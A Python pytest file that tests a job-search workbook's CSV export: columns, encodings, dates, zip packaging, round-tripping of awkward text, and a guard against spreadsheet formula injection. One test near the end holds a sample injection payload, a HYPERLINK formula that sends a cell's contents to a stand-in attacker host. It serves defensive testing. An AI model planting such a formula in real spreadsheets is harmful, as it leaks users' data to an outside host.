"""CSV export: every table, its columns and rows, cell formats, hostile text, the zip, formulas."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime
from typing import Any, TypeVar

import pandas as pd
import pytest

from workbook import content, demo, exports
from workbook.exports import tables
from workbook.exports.document import Snapshot, snapshot
from workbook.models import (
    RECORD_TYPES,
    CheckIn,
    MaterialsChecklist,
    Record,
    Rejection,
    Review,
    Skill,
    Stage,
    Win,
)

NOW = datetime(2026, 3, 10, 12, 0, tzinfo=UTC)
TEXTS = content.load(None)
R = TypeVar("R", bound=Record)
HOSTILE = [
    "Acme, Inc.",
    'She said "no", then "maybe"',
    "line one\nline two\n\nline four",
    "windows\r\nline break",
    "🎉 emoji 👩🏽‍💻 and flags 🇯🇵",
    "שלום עולם — مرحبا بالعالم",  # right-to-left scripts
    "株式会社サクラ; Société Lumière",
    "trailing backslash \\",
    "tab\tinside",
]


def stored(model: type[R], **data: Any) -> R:
    """A record as read back from the file: rules about "now" are not judged again."""
    return model.model_validate(data, context={"stored": True})


def snap_of(records: list[Record]) -> Snapshot:
    by: dict[type[Record], list[Record]] = {}
    for record in records:
        by.setdefault(type(record), []).append(record)
    return snapshot(lambda model: by.get(model, []))


def read(data: bytes) -> pd.DataFrame:
    # Everything as text, and an empty cell as "": what the person wrote, unconverted.
    return pd.read_csv(
        io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False, na_filter=False
    )


SNAPSHOTS = {
    "empty": lambda: snap_of([]),
    "demo": lambda: snap_of(demo.generate(heavy=False, now=NOW)),
    "heavy": lambda: snap_of(demo.generate(heavy=True, now=NOW)),
}


@pytest.fixture(scope="module", params=list(SNAPSHOTS))
def snap(request: pytest.FixtureRequest) -> Snapshot:
    return SNAPSHOTS[request.param]()


def test_tables_cover_every_model_in_order() -> None:
    assert list(tables.TABLES.values()) == list(RECORD_TYPES)
    assert list(tables.TABLES) == [m.TABLE for m in RECORD_TYPES]
    assert len(set(tables.TABLES)) == len(RECORD_TYPES)
    assert tables.columns(Rejection)[:3] == ["id", "created_at", "updated_at"]
    assert tables.columns(Rejection) == list(Rejection.model_fields)


def test_every_table_reads_back_with_its_columns_and_rows(snap: Snapshot) -> None:
    for name, model in tables.TABLES.items():
        data = tables.one_csv(snap, name)
        assert data.startswith(b"\xef\xbb\xbf"), name
        frame = read(data)
        assert list(frame.columns) == list(model.model_fields), name
        assert len(frame) == len(snap.of(model)), name
        if len(frame):
            assert list(frame["id"]) == [r.id for r in snap.of(model)], name


def test_the_zip_holds_every_table_and_a_readme(snap: Snapshot) -> None:
    data = tables.all_csv_zip(snap)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        names = archive.namelist()
        assert names == ["README.txt"] + [f"{t}.csv" for t in tables.TABLES]
        for name, model in tables.TABLES.items():
            inside = archive.read(f"{name}.csv")
            assert inside == tables.one_csv(snap, name)
            assert len(read(inside)) == len(snap.of(model))
        readme = archive.read("README.txt").decode("utf-8-sig")
    for words in ("UTF-8", "byte order mark", "'; '", "YYYY-MM-DD", "UTC", "formula", "JSON"):
        assert words in readme, words
    for name in tables.TABLES:
        assert f"{name}.csv" in readme


def test_the_zip_is_the_same_bytes_for_the_same_workbook() -> None:
    records = demo.generate(heavy=False, now=NOW)
    assert tables.all_csv_zip(snap_of(records)) == tables.all_csv_zip(snap_of(records))


def test_the_registry_gives_one_table_or_the_zip() -> None:
    snap = snap_of(demo.generate(heavy=False, now=NOW))
    one = exports.make("csv", snap, TEXTS, UTC, exports.Options(table="wins"))
    assert one == tables.one_csv(snap, "wins")
    every = exports.make("csv", snap, TEXTS, UTC, exports.Options())
    assert zipfile.is_zipfile(io.BytesIO(every))


def test_an_unknown_table_is_refused_clearly() -> None:
    with pytest.raises(ValueError, match=r"no table called 'nope'.*rejections"):
        tables.one_csv(snap_of([]), "nope")


def test_lines_end_in_crlf_and_an_empty_table_is_its_header() -> None:
    data = tables.one_csv(snap_of([]), "wins")
    assert data == b"\xef\xbb\xbf" + ",".join(Win.model_fields).encode() + b"\r\n"
    wins = [stored(Win, text=f"Win {n}", won_on=date(2026, 3, n + 1)) for n in range(3)]
    data = tables.one_csv(snap_of(list(wins)), "wins")
    assert data.count(b"\r\n") == 4
    assert data.count(b"\n") == 4  # no bare LF


def test_cells_use_iso_dates_utc_moments_lists_json_and_true_false() -> None:
    rejection = stored(
        Rejection,
        company="Northwind",
        role="Data Analyst",
        applied_on=date(2026, 2, 1),
        rejected_at=datetime(2026, 3, 2, 10, 30, 15, 999, tzinfo=UTC),
        stage=Stage.TECHNICAL,
        created_at=datetime(2026, 3, 2, 11, 0, tzinfo=UTC),
        updated_at=datetime(2026, 3, 2, 11, 0, tzinfo=UTC),
    )
    checkin = stored(
        CheckIn, emotions=["Sad", "Tired", "A bit lost"], intensity=7, felt_at=NOW, journal=""
    )
    review = stored(Review, answers={"went_well": "The walkthrough", "fit": 'A "good" fit, yes'})
    checklist = stored(MaterialsChecklist, done={"resume_target": date(2026, 3, 1)})
    skill = stored(Skill, name="SQL", start_on=date(2026, 1, 5), deadline=None, progress=0)
    snap = snap_of([rejection, checkin, review, checklist, skill])

    row = read(tables.one_csv(snap, "rejections")).iloc[0]
    assert row["rejected_at"] == "2026-03-02T10:30:15Z"
    assert row["created_at"] == "2026-03-02T11:00:00Z"
    assert row["applied_on"] == "2026-02-01"
    assert row["stage"] == "technical"
    assert row["archived"] == "false"
    assert row["notes"] == ""

    row = read(tables.one_csv(snap, "checkins")).iloc[0]
    assert row["emotions"] == "Sad; Tired; A bit lost"
    assert row["intensity"] == "7"
    assert row["rejection_id"] == ""  # None

    row = read(tables.one_csv(snap, "reviews")).iloc[0]
    assert json.loads(row["answers"]) == review.answers
    assert row["answers"] == '{"went_well":"The walkthrough","fit":"A \\"good\\" fit, yes"}'
    assert row["finished"] == "false"

    row = read(tables.one_csv(snap, "materials")).iloc[0]
    assert row["done"] == '{"resume_target":"2026-03-01"}'
    assert row["notes"] == "{}"

    row = read(tables.one_csv(snap, "skills")).iloc[0]
    assert row["deadline"] == ""
    assert row["progress"] == "0"


def test_cell_formats_naive_and_zoned_moments_as_utc() -> None:
    from zoneinfo import ZoneInfo

    tokyo = datetime(2026, 3, 2, 9, 0, tzinfo=ZoneInfo("Asia/Tokyo"))
    assert tables.cell(tokyo) == "2026-03-02T00:00:00Z"
    assert tables.cell(datetime(2026, 3, 2, 9, 0)) == "2026-03-02T09:00:00Z"
    assert tables.cell(True) == "true"
    assert tables.cell(None) == ""
    assert tables.cell([]) == ""


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_round_trips(text: str) -> None:
    rejection = stored(
        Rejection, company=text[:200], role="Analyst", rejected_at=NOW, notes=f"{text}\n{text}"
    )
    data = tables.one_csv(snap_of([rejection]), "rejections")
    row = read(data).iloc[0]
    assert row["company"] == text[:200]
    assert row["notes"] == f"{text}\n{text}"
    # The csv module (what a script would use) agrees with pandas.
    parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert parsed[0]["notes"] == f"{text}\n{text}"


def test_hostile_list_items_and_dict_values_round_trip() -> None:
    checkin = stored(CheckIn, emotions=HOSTILE[:3], intensity=3, felt_at=NOW)
    review = stored(Review, answers={"fit": HOSTILE[4], "a,b": HOSTILE[5], "c": HOSTILE[3]})
    snap = snap_of([checkin, review])
    assert read(tables.one_csv(snap, "checkins")).iloc[0]["emotions"] == "; ".join(HOSTILE[:3])
    answers = read(tables.one_csv(snap, "reviews")).iloc[0]["answers"]
    assert json.loads(answers) == review.answers
    assert "🎉" in answers  # kept as written, not \\u escapes
    assert "\\r\\n" in answers  # a line break inside JSON is escaped, the cell stays one line


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_guard_prefixes_a_quote(start: str) -> None:
    assert tables.guard(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"
    assert tables.cell(f"{start}1+1") == f"'{start}1+1"
    assert tables.cell([f"{start}cmd", "b"]) == f"'{start}cmd; b"


@pytest.mark.parametrize("safe", ["a=b", "1+1", "Mail me @ home", "'quoted", "", " =x"])
def test_formula_guard_leaves_plain_text_alone(safe: str) -> None:
    assert tables.cell(safe) == safe


def test_formula_guard_end_to_end_and_numbers_untouched() -> None:
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    rejection = stored(
        Rejection, company=attack, role="+1 555 0100", rejected_at=NOW, channel="@everyone"
    )
    checkin = stored(CheckIn, emotions=["-sad"], intensity=0, felt_at=NOW, journal="-2+3")
    snap = snap_of([rejection, checkin])
    row = read(tables.one_csv(snap, "rejections")).iloc[0]
    assert row["company"] == "'" + attack
    assert row["role"] == "'+1 555 0100"
    assert row["channel"] == "'@everyone"
    row = read(tables.one_csv(snap, "checkins")).iloc[0]
    assert row["journal"] == "'-2+3"
    assert row["emotions"] == "'-sad"
    assert row["intensity"] == "0"
    assert tables.cell(-5) == "-5"  # a number is a number, not a formula
